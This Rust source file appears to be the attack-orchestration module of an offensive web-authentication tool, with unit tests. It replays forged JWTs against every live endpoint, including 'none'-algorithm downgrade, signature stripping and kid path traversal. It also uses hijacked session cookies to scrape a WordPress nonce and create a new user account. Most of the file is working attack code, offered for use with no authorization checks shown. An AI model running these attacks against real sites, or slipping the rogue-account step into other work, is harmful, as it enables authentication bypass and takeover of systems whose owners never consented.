//! Attack orchestration
//!
//! Token sessions replay every forged variant against every live
//! endpoint. Cookie sessions skip cryptography and instead perform one
//! privileged action through the first accessible endpoint.

mod action;
mod attempt;

pub use action::{extract_anti_forgery_token, extract_error_notice, NewAccount, PrivilegedAction};
pub use attempt::{AttackAttempt, AttemptLog, AttemptOutcome};

use url::Url;

use crate::app::AttackConfig;
use crate::forge::{Token, TokenForge};
use crate::http::{BodyEncoding, SessionClient};
use crate::prober::ProbeResult;
use crate::session::AuthMode;

/// Replays forged artifacts and performs privileged actions
#[derive(Debug, Clone, Default)]
pub struct AttackOrchestrator {
    forge: TokenForge,
    settings: AttackConfig,
    action: Option<PrivilegedAction>,
}

impl AttackOrchestrator {
    pub fn new(forge: TokenForge, settings: AttackConfig) -> Self {
        Self {
            forge,
            settings,
            action: None,
        }
    }

    /// Action performed in cookie mode
    pub fn with_action(mut self, action: Option<PrivilegedAction>) -> Self {
        self.action = action;
        self
    }

    /// Run the attack matching `mode` against `targets`.
    ///
    /// Per-attempt failures are recorded, never raised.
    pub async fn execute(&self, client: &mut SessionClient, targets: &[ProbeResult], mode: AuthMode) -> AttemptLog {
        let mut log = AttemptLog::new();
        match mode {
            AuthMode::Token => self.replay_tokens(client, targets, &mut log).await,
            AuthMode::Cookie => self.perform_action(client, targets, &mut log).await,
            AuthMode::None => log.record(AttackAttempt::skipped("none", "no session artifact")),
        }
        log
    }

    async fn replay_tokens(&self, client: &mut SessionClient, targets: &[ProbeResult], log: &mut AttemptLog) {
        let Some(original) = client.state().bearer_token().map(str::to_string) else {
            log.record(AttackAttempt::skipped("token-replay", "no captured token"));
            return;
        };
        let token = match Token::parse(&original) {
            Ok(token) => token,
            Err(e) => {
                log.record(AttackAttempt::skipped("token-replay", &e.to_string()));
                return;
            }
        };

        let live: Vec<&ProbeResult> = targets.iter().filter(|t| t.classification.is_live()).collect();
        if live.is_empty() {
            log.record(AttackAttempt::skipped("token-replay", "no live targets"));
            return;
        }
        tracing::info!(targets = live.len(), "Replaying forged tokens");

        'variants: for forged in self.forge.attacks(&token) {
            let attack = forged.attack.name();
            client.set_bearer_token(&forged.token);

            for target in &live {
                let outcome = match client.get(&target.path, &[]).await {
                    Ok(response) if response.status == 200 => AttemptOutcome::Bypassed,
                    Ok(response) => AttemptOutcome::Denied {
                        status: response.status,
                    },
                    Err(e) => AttemptOutcome::TransportFailure { cause: e.to_string() },
                };
                let success = outcome.is_success();
                log.record(AttackAttempt::new(&target.path, &forged.token, &attack, outcome));

                if success && self.settings.stop_on_first_success {
                    break 'variants;
                }
            }
        }

        client.set_bearer_token(&original);
    }

    async fn perform_action(&self, client: &mut SessionClient, targets: &[ProbeResult], log: &mut AttemptLog) {
        let Some(action) = &self.action else {
            let reason = format!("no privileged action for {}", client.target().variant());
            log.record(AttackAttempt::skipped("privileged-action", &reason));
            return;
        };
        let Some(target) = targets.iter().find(|t| t.is_accessible()) else {
            log.record(AttackAttempt::skipped(&action.name, "no accessible target"));
            return;
        };

        let form_url = match Url::parse(&target.url).and_then(|base| base.join(&action.form_path)) {
            Ok(url) => url.to_string(),
            Err(e) => {
                log.record(AttackAttempt::skipped(&action.name, &format!("bad form path: {}", e)));
                return;
            }
        };
        tracing::info!(form = %form_url, action = %action.name, "Performing privileged action");

        let outcome = self.submit_action(client, action, &form_url).await;
        log.record(AttackAttempt::new(&form_url, "session cookies", &action.name, outcome));
    }

    async fn submit_action(&self, client: &SessionClient, action: &PrivilegedAction, form_url: &str) -> AttemptOutcome {
        let form = match client.get(form_url, &[]).await {
            Ok(response) => response.body_text(),
            Err(e) => return AttemptOutcome::TransportFailure { cause: e.to_string() },
        };

        if action.is_denied(&form) {
            return AttemptOutcome::InsufficientPrivilege;
        }
        let Some(nonce) = extract_anti_forgery_token(&form, &action.nonce_field) else {
            return AttemptOutcome::AntiForgeryTokenMissing;
        };
        tracing::debug!(field = %action.nonce_field, "Anti-forgery token captured");

        let mut fields = action.fields.clone();
        fields.push((action.nonce_field.clone(), nonce));

        let response = match client.post(form_url, &fields, BodyEncoding::Form).await {
            Ok(response) => response,
            Err(e) => return AttemptOutcome::TransportFailure { cause: e.to_string() },
        };
        let body = response.body_text();

        if action.confirms_success(&response.final_url, &body) {
            AttemptOutcome::ActionSucceeded
        } else if let Some(reason) = extract_error_notice(&body) {
            AttemptOutcome::ActionFailed { reason }
        } else if body.to_lowercase().contains("error") {
            AttemptOutcome::ActionFailed {
                reason: "server reported an unspecified error".to_string(),
            }
        } else {
            AttemptOutcome::Inconclusive
        }
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;
    use crate::app::SessionConfig;
    use crate::error::HttpError;
    use crate::http::transport::stub::{reply, StubTransport};
    use crate::http::Method;
    use crate::prober::ProbeClassification;
    use crate::target::{TargetConfig, TargetVariant};

    const TOKEN: &str = "eyJhbGciOiJIUzI1NiJ9.eyJyb2xlIjoidXNlciJ9.SIG";

    fn client(stub: Arc<StubTransport>, variant: TargetVariant) -> SessionClient {
        let target = TargetConfig::new("http://blog.test/", variant).unwrap();
        SessionClient::with_transport(target, &SessionConfig::default(), stub)
    }

    fn result(path: &str, classification: ProbeClassification) -> ProbeResult {
        ProbeResult {
            path: path.to_string(),
            url: format!("http://blog.test/{}", path),
            status: Some(200),
            classification,
            evidence: None,
            error: None,
            duration_ms: 0,
        }
    }

    fn bearer(request: &crate::http::Request) -> String {
        request
            .header_value("Authorization")
            .unwrap_or_default()
            .trim_start_matches("Bearer ")
            .to_string()
    }

    #[tokio::test]
    async fn test_every_variant_against_every_live_target() {
        let stub = Arc::new(StubTransport::new(|req| match req.url.path() {
            "/down" => Err(HttpError::ConnectionError("reset".into())),
            _ => Ok(reply(req, 401, "")),
        }));
        let mut client = client(stub.clone(), TargetVariant::Generic);
        client.set_bearer_token(TOKEN);

        let targets = vec![
            result("api/admin", ProbeClassification::Protected),
            result("down", ProbeClassification::Inconclusive),
            result("gone", ProbeClassification::Rejected),
        ];
        let log = AttackOrchestrator::default()
            .execute(&mut client, &targets, AuthMode::Token)
            .await;

        // 3 downgrades + strip + kid traversal, two live targets
        assert_eq!(log.len(), 10);
        assert_eq!(log.successes().count(), 0);
        assert!(log
            .attempts()
            .iter()
            .any(|a| matches!(a.outcome(), AttemptOutcome::TransportFailure { .. })));
        assert!(log.attempts().iter().all(|a| a.target_path() != "gone"));
        assert_eq!(client.state().bearer_token(), Some(TOKEN));
    }

    #[tokio::test]
    async fn test_stop_on_first_success() {
        let stub = Arc::new(StubTransport::new(|req| {
            if bearer(req).ends_with('.') {
                Ok(reply(req, 200, "welcome admin"))
            } else {
                Ok(reply(req, 403, ""))
            }
        }));
        let mut client = client(stub.clone(), TargetVariant::Generic);
        client.set_bearer_token(TOKEN);

        let orchestrator = AttackOrchestrator::new(
            TokenForge::default(),
            AttackConfig {
                stop_on_first_success: true,
            },
        );
        let targets = vec![result("api/admin", ProbeClassification::Protected)];
        let log = orchestrator.execute(&mut client, &targets, AuthMode::Token).await;

        assert_eq!(log.len(), 1);
        assert_eq!(log.attempts()[0].outcome(), &AttemptOutcome::Bypassed);
        assert_eq!(log.attempts()[0].attack(), "alg-downgrade (None)");
        assert_eq!(stub.request_count(), 1);
    }

    #[tokio::test]
    async fn test_token_mode_without_token_is_skipped() {
        let stub = Arc::new(StubTransport::new(|req| Ok(reply(req, 200, ""))));
        let mut client = client(stub.clone(), TargetVariant::Generic);
        let targets = vec![result("admin", ProbeClassification::Accessible)];

        let log = AttackOrchestrator::default()
            .execute(&mut client, &targets, AuthMode::Token)
            .await;

        assert_eq!(log.len(), 1);
        assert!(matches!(log.attempts()[0].outcome(), AttemptOutcome::Skipped { .. }));
        assert_eq!(stub.request_count(), 0);
    }

    fn wordpress_orchestrator() -> AttackOrchestrator {
        let account = NewAccount::new("ghost", "ghost@blog.test", "S3cret!");
        AttackOrchestrator::default().with_action(PrivilegedAction::for_variant(TargetVariant::WordPress, &account))
    }

    #[tokio::test]
    async fn test_cookie_mode_creates_user() {
        let stub = Arc::new(StubTransport::new(|req| match req.method {
            Method::Get => Ok(reply(
                req,
                200,
                r#"<form><input type="hidden" id="_wpnonce_create-user" name="_wpnonce_create-user" value="n0nce42" /></form>"#,
            )),
            Method::Post => {
                let mut response = reply(req, 200, "<h1>Users</h1>");
                response.final_url = "http://blog.test/wp-admin/users.php?update=add".to_string();
                Ok(response)
            }
        }));
        let mut client = client(stub.clone(), TargetVariant::WordPress);

        let targets = vec![
            result("wp-admin/profile.php", ProbeClassification::Protected),
            result("wp-admin/", ProbeClassification::Accessible),
        ];
        let log = wordpress_orchestrator()
            .execute(&mut client, &targets, AuthMode::Cookie)
            .await;

        assert_eq!(log.len(), 1);
        assert_eq!(log.attempts()[0].outcome(), &AttemptOutcome::ActionSucceeded);
        assert_eq!(log.attempts()[0].target_path(), "http://blog.test/wp-admin/user-new.php");

        let requests = stub.requests();
        assert_eq!(requests.len(), 2);
        assert_eq!(requests[1].url.as_str(), "http://blog.test/wp-admin/user-new.php");
        let body = requests[1].body.clone().unwrap();
        assert!(body.contains("_wpnonce_create-user=n0nce42"));
        assert!(body.contains("user_login=ghost"));
    }

    #[tokio::test]
    async fn test_cookie_mode_fails_closed_without_nonce() {
        let stub = Arc::new(StubTransport::new(|req| Ok(reply(req, 200, "<form></form>"))));
        let mut client = client(stub.clone(), TargetVariant::WordPress);
        let targets = vec![result("wp-admin/", ProbeClassification::Accessible)];

        let log = wordpress_orchestrator()
            .execute(&mut client, &targets, AuthMode::Cookie)
            .await;

        assert_eq!(log.attempts()[0].outcome(), &AttemptOutcome::AntiForgeryTokenMissing);
        assert_eq!(stub.request_count(), 1);
    }

    #[tokio::test]
    async fn test_cookie_mode_reports_role_denial() {
        let stub = Arc::new(StubTransport::new(|req| {
            Ok(reply(req, 200, r#"<div class="wp-die-message">Sorry, you are not allowed to create users.</div>"#))
        }));
        let mut client = client(stub, TargetVariant::WordPress);
        let targets = vec![result("wp-admin/", ProbeClassification::Accessible)];

        let log = wordpress_orchestrator()
            .execute(&mut client, &targets, AuthMode::Cookie)
            .await;
        assert_eq!(log.attempts()[0].outcome(), &AttemptOutcome::InsufficientPrivilege);
    }

    #[tokio::test]
    async fn test_cookie_mode_without_accessible_target_is_skipped() {
        let stub = Arc::new(StubTransport::new(|req| Ok(reply(req, 200, ""))));
        let mut client = client(stub.clone(), TargetVariant::WordPress);
        let targets = vec![result("wp-admin/", ProbeClassification::Inconclusive)];

        let log = wordpress_orchestrator()
            .execute(&mut client, &targets, AuthMode::Cookie)
            .await;
        assert!(matches!(log.attempts()[0].outcome(), AttemptOutcome::Skipped { .. }));
        assert_eq!(stub.request_count(), 0);
    }

    #[tokio::test]
    async fn test_cookie_mode_without_action_is_skipped() {
        let stub = Arc::new(StubTransport::new(|req| Ok(reply(req, 200, ""))));
        let mut client = client(stub, TargetVariant::PrestaShop);
        let targets = vec![result("admin", ProbeClassification::Accessible)];

        let log = AttackOrchestrator::default()
            .execute(&mut client, &targets, AuthMode::Cookie)
            .await;
        match log.attempts()[0].outcome() {
            AttemptOutcome::Skipped { reason } => assert!(reason.contains("prestashop")),
            other => panic!("unexpected outcome {:?}", other),
        }
    }
}
